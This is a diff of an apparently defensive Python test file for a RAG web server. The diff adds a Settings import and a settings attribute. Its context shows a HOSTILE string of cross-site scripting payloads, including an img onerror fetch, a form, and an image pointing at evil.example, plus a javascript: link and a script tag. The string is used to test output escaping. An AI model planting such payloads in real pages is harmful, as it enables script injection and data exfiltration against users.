@@ -21,6 +21,7 @@ from browser import free_port, served
 from rag.errors import GenerateError
 from rag.records import Answer, Citation, Document, Hit, Provision, Removed, Sentence, Update, article_of
 from rag.serve import serve
+from rag.settings import Settings
 
 HOSTILE = '<img src=x onerror="fetch(\'http://evil.example/a\')"><form action="http://evil.example/f">' + (
     "![p](http://evil.example/p) [x](javascript:alert(1)) <script>document.title='owned'</script> $$x$$"
@@ -59,6 +60,7 @@ class PlayedEngine:
 
     def __init__(self, folder: Path) -> None:
         self.document, self.folder, self.log = plan(), folder, folder / "log.jsonl"
+        self.settings = Settings(home=folder)
 
     def note(self, **what: object) -> None:
         with self.log.open("a", encoding="utf-8") as file:
